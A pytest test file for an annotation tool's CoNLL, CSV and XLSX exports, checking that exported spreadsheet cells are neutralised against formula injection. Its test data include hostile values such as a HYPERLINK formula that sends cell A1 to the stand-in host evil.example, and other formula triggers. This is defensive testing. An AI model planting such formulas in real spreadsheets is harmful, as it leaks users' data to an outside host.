"""CoNLL/BIO per character, and the statistics table (CSV with BOM, XLSX) with formula neutralising."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from test_exchange_fixtures import TEXT, at, build

from annotator.domain.model import Span
from annotator.exchange.conll import export_conll
from annotator.exchange.selection import Selection
from annotator.exchange.table import export_table, neutralise
from annotator.storage import spans

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1", "-3.2%", "@SUM(A1)", "\t=1", "\r=1", "=1+1",
           "-2+3", "＝1+1"]


@pytest.fixture
def sample(project_at):
    """The sample project on each backend (SQLite file, PostgreSQL database)."""
    project, d1, d2 = build(project_at("sample.db"))
    yield project, d1, d2
    project.close()


# -- CoNLL ------------------------------------------------------------------------------------------

def _blocks(path):
    lines = path.read_text(encoding="utf-8").split("\n")
    rows = [line.split("\t") for line in lines if line and not line.startswith("#")]
    return lines, rows


def test_conll_one_column_per_label_keeps_overlaps(sample, tmp_path):
    project, _, _ = sample
    out = tmp_path / "zs.conll"
    report = export_conll(project, out, Selection(annotators=("张三",)))
    lines, rows = _blocks(out)
    assert lines[0] == "# columns = char\tdirective\tstatistic" and lines[1] == "# annotator = 张三"
    assert all(len(r) == 3 and len(r[0]) == 1 and not r[0].isspace() for r in rows)
    chars = [r[0] for r in rows]
    i = chars.index("😀")
    # 😀 lies in both the directive and the overlapping statistic.
    assert rows[i][1] == "I-directive" and rows[i][2] == "I-statistic"
    assert rows[chars.index("各")][1:] == ["B-directive", "O"]
    assert rows[chars.index("职")][1:] == ["I-directive", "B-statistic"]
    assert "𠮷" in chars and "👨" in chars  # astral characters are one line each (code points)
    assert report.spans == 4 and report.documents == 2


def test_conll_sentence_and_section_breaks(sample, tmp_path):
    project, _, _ = sample
    out = tmp_path / "g.conll"
    export_conll(project, out, Selection(gold=True))
    lines, _ = _blocks(out)
    text = "\n".join(lines)
    # After 。 comes a blank line; the section heading "（一）" starts its own sentence.
    assert "。\tO\tO\n\n全\tO\tO" in text
    assert "\n\n（\tO\tO\n一\tO\tO\n）\tO\tO" in text
    assert "# document_id = 2" in text and "\n\n\n" not in text


def test_conll_refuses_several_layers_in_one_file(sample, tmp_path):
    project, _, _ = sample
    with pytest.raises(ValueError, match="one annotator"):
        export_conll(project, tmp_path / "all.conll")
    assert not (tmp_path / "all.conll").exists()
    report = export_conll(project, tmp_path / "all.conll", per_annotator=True)
    assert len(report.files) == 3


def test_conll_same_label_overlap_keeps_the_first(sample, tmp_path):
    project, d1, _ = sample
    start, end = at(TEXT, "全县地区生产总值")
    spans.add_span(project, Span(document_id=d1, start=start, end=end, label="statistic", annotator="张三"))
    report = export_conll(project, tmp_path / "z.conll", Selection(annotators=("张三",)))
    assert report.spans == 4 and "1 spans overlapping" in report.notes[0]


# -- statistics table -------------------------------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("+1", "+1"), ("-3.2%", "-3.2%"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-2+3", "'-2+3"), ("＝1+1", "'＝1+1"), ("增长5.2%", "增长5.2%"),
    ("-", "'-"), ("", ""),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def _hostile_project(sample):
    project, d1, _ = sample
    for n, value in enumerate(HOSTILE):
        spans.add_span(project, Span(document_id=d1, start=n, end=n + 1, label="statistic", annotator="王五",
                                     attributes={"value_text": value, "indicator": value, "value": -3.2}))
    return project


def test_csv_has_a_bom_and_neutralised_cells(sample, tmp_path):
    project = _hostile_project(sample)
    out = tmp_path / "stats.csv"
    export_table(project, out, Selection(annotators=("王五",)))
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    col = header.index("value_text")
    assert header[:3] == ["document_id", "document_title", "section_path"]
    assert [r[col] for r in body] == [neutralise(v) for v in HOSTILE]
    assert [r[col] for r in body][2] == "-3.2%" and body[0][col].startswith("'=HYPERLINK")
    assert all(r[header.index("value")] == "-3.2" for r in body)  # numbers are written as numbers
    # No cell of the whole file starts a formula unless it is a plain number.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r", "+", "-")) or cell in ("+1", "-3.2%", "-3.2")


def test_csv_rows_carry_document_section_and_annotator(sample, tmp_path):
    project, _, _ = sample
    out = tmp_path / "s.csv"
    export_table(project, out)
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    grain = next(r for r in rows if r["text"] == "粮食产量下降-3.2%")
    assert grain["section_path"] == "一、加强党的领导 > （一）抓好落实 > 一要抓好春耕生产"
    assert (grain["annotator"], grain["document_title"], grain["value_text"]) == ("李四", "县委工作会议讲话", "-3.2%")
    # "@gold" starts like a formula (Excel reads @ as one), so it is neutralised like any other cell.
    assert {r["annotator"] for r in rows} == {"张三", "李四", "'@gold"}
    assert len(rows) == 5  # statistic spans only, no suggestion, no rejection


def test_xlsx_writes_text_as_strings_and_numbers_as_numbers(sample, tmp_path):
    from openpyxl import load_workbook

    project = _hostile_project(sample)
    out = tmp_path / "stats.xlsx"
    export_table(project, out, Selection(annotators=("王五",)), fmt="xlsx")
    sheet = load_workbook(out)["statistic"]
    header = [c.value for c in sheet[1]]
    col, num = header.index("value_text"), header.index("value")
    body = list(sheet.iter_rows(min_row=2))
    assert [r[col].value for r in body] == HOSTILE  # exactly as typed, no apostrophe
    assert {r[col].data_type for r in body} == {"s"}
    assert all(r[num].value == -3.2 and r[num].data_type == "n" for r in body)
    with zipfile.ZipFile(out) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_table_export_failure_leaves_no_file(sample, tmp_path, monkeypatch):
    from annotator.exchange import table

    project, _, _ = sample

    def broken(*args, **kwargs):
        yield [1] * 8
        raise RuntimeError("interrupted")

    monkeypatch.setattr(table, "rows", broken)
    with pytest.raises(RuntimeError):
        export_table(project, tmp_path / "s.csv")
    assert not (tmp_path / "s.csv").exists() and not list(tmp_path.glob(".s.csv*"))


def _hostile_header_project(tmp_path, project_at):
    """A project whose label and attribute names (which come from the project file) are formulas."""
    from annotator.domain.labels import AttributeField, Label
    from annotator.storage import open_project
    from annotator.storage.documents import add_document
    from annotator.storage.labels import save_label

    project = open_project(project_at("evil.db"))
    evil = '=HYPERLINK("http://evil.example","x")'
    save_label(project, Label(name="sta[t]:*?", colour="#000000",
                              attributes=(AttributeField(evil), AttributeField("@SUM(A1)"), AttributeField("+1"))))
    doc, _ = add_document(project, clean_text="增长5.2%", raw_text="增长5.2%")
    spans.add_span(project, Span(document_id=doc, start=0, end=6, label="sta[t]:*?", annotator="甲",
                                 attributes={evil: "=1+1"}))
    return project, evil


def test_header_cells_are_neutralised_in_csv(tmp_path, project_at):
    project, evil = _hostile_header_project(tmp_path, project_at)
    out = tmp_path / "h.csv"
    export_table(project, out, label="sta[t]:*?", fmt="csv")
    header, row = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))
    assert "'" + evil in header and "'@SUM(A1)" in header and "+1" in header  # a plain number stays
    assert "'=1+1" in row
    project.close()


def test_header_cells_are_strings_in_xlsx_and_the_sheet_name_is_legal(tmp_path, project_at):
    from openpyxl import load_workbook

    project, evil = _hostile_header_project(tmp_path, project_at)
    out = tmp_path / "h.xlsx"
    export_table(project, out, label="sta[t]:*?", fmt="xlsx")
    book = load_workbook(out)
    (sheet,) = book.worksheets
    assert sheet.title == "sta_t____"
    assert evil in [c.value for c in sheet[1]] and {c.data_type for c in sheet[1]} == {"s"}
    with zipfile.ZipFile(out) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    project.close()


@pytest.mark.parametrize("fmt", ["native", "csv", "xlsx", "labelstudio"])
@pytest.mark.parametrize("umask", [0o022, 0o002, 0o077])
def test_exports_are_created_with_the_users_umask(sample, tmp_path, fmt, umask):
    import os
    import stat

    from annotator.services.exchange import export_labels as run_export

    out = tmp_path / f"out.{fmt}"
    old = os.umask(umask)
    try:
        run_export(sample[0], out, fmt, Selection())
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o666 & ~umask
    out.chmod(0o640)  # an existing file keeps the mode its owner gave it
    run_export(sample[0], out, fmt, Selection())
    assert stat.S_IMODE(out.stat().st_mode) == 0o640
